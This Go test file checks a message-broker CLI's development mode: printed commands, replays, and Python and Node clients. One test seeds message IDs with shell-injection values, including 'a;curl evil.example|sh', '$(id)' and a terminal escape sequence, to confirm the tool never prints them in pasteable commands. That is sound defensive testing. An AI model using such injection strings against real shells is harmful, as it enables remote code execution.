package cli

import (
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"syscall"
	"testing"

	"github.com/watershipmq/watership/eventstore"
	"github.com/watershipmq/watership/eventstore/kql"
	"github.com/watershipmq/watership/internal/rabbit/rabbittest"
	"github.com/watershipmq/watership/internal/server/servertest"
	"github.com/watershipmq/watership/schemas"
)

// development is a running `watership dev` in a folder of its own.
type development struct {
	dir     string
	binary  string
	environ []string
	cmd     *exec.Cmd
	out     *servertest.Sink
	ended   chan error
}

func develop(t *testing.T, environ []string, args ...string) *development {
	t.Helper()
	return developIn(t, t.TempDir(), environ, args...)
}

func developIn(t *testing.T, dir string, environ []string, args ...string) *development {
	t.Helper()
	return developAt(t, dir, environ, append([]string{"--amqp-listen", "127.0.0.1:0", "--http-listen", "127.0.0.1:0"}, args...)...)
}

// developAt starts dev with its usual ports, unless args have others.
func developAt(t *testing.T, dir string, environ []string, args ...string) *development {
	t.Helper()
	path, err := servertest.Binary()
	if err != nil {
		t.Fatal(err)
	}
	d := &development{dir: dir, binary: path, environ: commandEnvironment(), out: &servertest.Sink{}, ended: make(chan error, 1)}
	d.cmd = exec.Command(path, append([]string{"dev"}, args...)...)
	d.cmd.Dir, d.cmd.Env = d.dir, append(slices.Clone(d.environ), environ...)
	d.cmd.Stdout, d.cmd.Stderr = d.out, d.out
	if err := d.cmd.Start(); err != nil {
		t.Fatal(err)
	}
	go func() { d.ended <- d.cmd.Wait() }()
	t.Cleanup(func() {
		_ = d.cmd.Process.Kill()
		if t.Failed() {
			t.Logf("dev says\n%s", d.out.String())
		}
	})
	return d
}

// commandEnvironment is ours without what configures Watership.
func commandEnvironment() []string {
	return slices.DeleteFunc(os.Environ(), func(v string) bool { return strings.HasPrefix(v, "WATERSHIP_") })
}

// says waits for a text that dev prints.
func (d *development) says(t *testing.T, text string) {
	t.Helper()
	servertest.Until(t, "dev to say "+text, func() bool { return strings.Contains(d.out.String(), text) })
}

// sh runs a line as a second terminal in the same folder would.
func (d *development) sh(line string) (string, error) {
	cmd := exec.Command("sh", "-c", line)
	cmd.Dir, cmd.Env = d.dir, d.environ
	out, err := cmd.CombinedOutput()
	return string(out), err
}

func (d *development) must(t *testing.T, line string) string {
	t.Helper()
	out, err := d.sh(line)
	if err != nil {
		t.Fatalf("%s: %v\n%s", line, err, out)
	}
	return out
}

func (d *development) signal(t *testing.T, s syscall.Signal) error {
	t.Helper()
	if err := d.cmd.Process.Signal(s); err != nil {
		t.Fatal(err)
	}
	return <-d.ended
}

// What dev prints can be typed as it stands, up to a first replay whose message
// is handled.
func TestDevelopmentToTheFirstReplay(t *testing.T) {
	d := develop(t, nil, "--rate", "20")
	d.says(t, "--dry-run\n")
	var lost string
	// The newest events may be those of a burst, which were handled.
	wants := map[string]string{
		"search": "published|handled", "search --by action": "published", "failed": "the payment provider answered",
		"show order-": "timeline\n", "show mine": "publish|nothing", "publish": "published 1 message",
		"replay": "sent 1 of 1|to send",
	}
	tried := map[string]bool{}
	for _, command := range d.commands() {
		_, typed, _ := strings.Cut(command, d.binary+" ")
		if typed == "tail" {
			continue // goes on until Ctrl-C
		}
		if typed == "show mine" {
			servertest.Until(t, "the message to be recorded", func() bool { out, _ := d.sh(command); return strings.Contains(out, "published") })
		}
		out := d.must(t, command)
		for begins, want := range wants {
			if strings.HasPrefix(typed, begins) {
				tried[begins] = true
				if !regexp.MustCompile(want).MatchString(out) {
					t.Errorf("%s prints no %q:\n%s", command, want, out)
				}
			}
		}
		if id := regexp.MustCompile(`replay 'message.id: (\S+) `).FindStringSubmatch(command); id != nil {
			lost = id[1]
		}
	}
	for begins := range wants {
		if !tried[begins] {
			t.Errorf("dev names no command %q", begins)
		}
	}
	servertest.Until(t, "the replayed order to be handled", func() bool {
		return d.must(t, d.binary+" search --count 'message.id: "+lost+" and action: handled and queue: shop.billing'") == "1\n"
	})
	for _, exchange := range []string{"shop.orders", "shop.payments", "shop.shipments"} {
		if d.must(t, d.binary+" search --count 'destination.name: "+exchange+" and action: published'") == "0\n" {
			t.Errorf("nothing of %s is recorded", exchange)
		}
	}
	for _, class := range []string{"ordering", "default"} {
		if d.must(t, d.binary+" search --count 'watership.class: "+class+"'") == "0\n" {
			t.Errorf("nothing failed in class %s", class)
		}
	}
	d.must(t, d.binary+" doctor")
	d.must(t, d.binary+" jobs list")
	d.must(t, d.binary+" setup")
	if out, err := d.sh(d.binary + " dev"); err == nil || !strings.Contains(out, "another watership runs") {
		t.Errorf("a second dev: %v, %s", err, out)
	}
	if err := d.signal(t, syscall.SIGINT); err != nil {
		t.Errorf("dev ended with %v", err)
	}
	d.isOver(t)
}

// commands are those that dev prints, one a line and indented.
func (d *development) commands() []string {
	var list []string
	for line := range strings.Lines(d.out.String()) {
		if strings.HasPrefix(line, "  ") && strings.Contains(line, d.binary) {
			list = append(list, strings.TrimSpace(line))
		}
	}
	return list
}

// isOver: the store is there to be searched, and no broker.
func (d *development) isOver(t *testing.T) {
	t.Helper()
	d.must(t, d.binary+" search --count")
	out, err := d.sh("echo {} | " + d.binary + " publish --exchange shop.orders")
	if err == nil || strings.Count(out, "\n") != 1 || !strings.Contains(out, "no watership is running here") || !strings.Contains(out, "start `watership dev`") {
		t.Errorf("publishing to a dev that has ended: %v, %q", err, out)
	}
	files, err := os.ReadDir(filepath.Join(d.dir, ".watership"))
	if err != nil || len(files) != 1 && d.cmd.ProcessState.Success() {
		t.Errorf("%v are left, %v", files, err)
	}
}

// pythonPublishes publishes to a queue.
const pythonPublishes = `
import pika, sys
channel = pika.BlockingConnection(pika.URLParameters(sys.argv[1])).channel()
channel.confirm_delivery()
channel.basic_publish("", sys.argv[2], b'{"order": 7}', pika.BasicProperties(message_id="order-7", delivery_mode=2, headers={"tenant": "acme", "number": 7}), mandatory=True)
channel.connection.close()
`

// A program in another language needs only the address; and what a killed dev
// leaves behind misleads nobody.
func TestDevelopmentWithAnotherLanguage(t *testing.T) {
	pika := os.Getenv("WATERSHIP_TEST_PIKA")
	if pika == "" {
		servertest.Missing(t, `no pika: WATERSHIP_TEST_PIKA is not set (eval "$(scripts/fixtures env)")`)
	}
	d := develop(t, []string{"WATERSHIP_RETRY_POLICIES={default: {delays: [100ms, 100ms]}}"}, "--empty")
	d.says(t, "Try, in a second terminal")
	address := regexp.MustCompile(`amqp://\S+`).FindString(d.out.String())
	python := startRejecter(t, rabbittest.Broker{Address: rabbittest.Address{URL: address}}, "python", "watership.retry")
	publish := exec.Command("python3", "-c", pythonPublishes, address, "python")
	publish.Env = append(os.Environ(), "PYTHONPATH="+pika)
	if out, err := publish.CombinedOutput(); err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	servertest.Until(t, "the message to be given up", func() bool {
		return d.must(t, d.binary+" search --count 'action: poisoned and message.id: order-7'") == "1\n"
	})
	d.must(t, d.binary+" replay 'action: poisoned and message.id: order-7' --to-failed-queue --yes")
	servertest.Until(t, "the Python service to get the replay", func() bool { return len(python.deliveries()) >= 4 })
	if err := d.signal(t, syscall.SIGKILL); err == nil {
		t.Error("killed, and no error")
	}
	d.isOver(t)
}

// A Node program works with dev's broker as it does with RabbitMQ.
func TestDevelopmentWithNode(t *testing.T) {
	amqplib := os.Getenv("WATERSHIP_TEST_AMQPLIB")
	if amqplib == "" {
		servertest.Missing(t, `no amqplib: WATERSHIP_TEST_AMQPLIB is not set (eval "$(scripts/fixtures env)")`)
	}
	d := develop(t, nil, "--empty")
	d.says(t, "Try, in a second terminal")
	node := exec.Command("node", "../../broker/testdata/client.js", regexp.MustCompile(`amqp://\S+`).FindString(d.out.String()))
	node.Env = append(os.Environ(), "NODE_PATH="+amqplib)
	if out, err := node.CombinedOutput(); err != nil || string(out) != "ok\n" {
		t.Errorf("%v\n%s", err, out)
	}
}

// dev prints no id that a shell would run when the command with it is pasted.
func TestDevelopmentPrintsPlainIDs(t *testing.T) {
	a := newSeededFile(t)
	named := func(id string) func(*schemas.Event) {
		return func(e *schemas.Event) { e.Envelope.Properties.MessageID = id }
	}
	a.keep(t,
		a.event(1, schemas.Handled, named("a;curl evil.example|sh")), a.event(2, schemas.Handled, named("$(id)")),
		a.event(3, schemas.Handled, named("\x1b]0;gone\x07")), a.event(4, schemas.Handled, named("--yes")), a.event(5, schemas.Handled, named("a:b")), // which a query takes for a field
		a.event(6, schemas.Handled, named("order-6")),
	)
	id, err := firstMessageID(t.Context(), a, kql.FieldIs("event.action", "handled"), eventstore.Cursor{})
	if err != nil || id != "order-6" {
		t.Errorf("got %q, %v", id, err)
	}
}
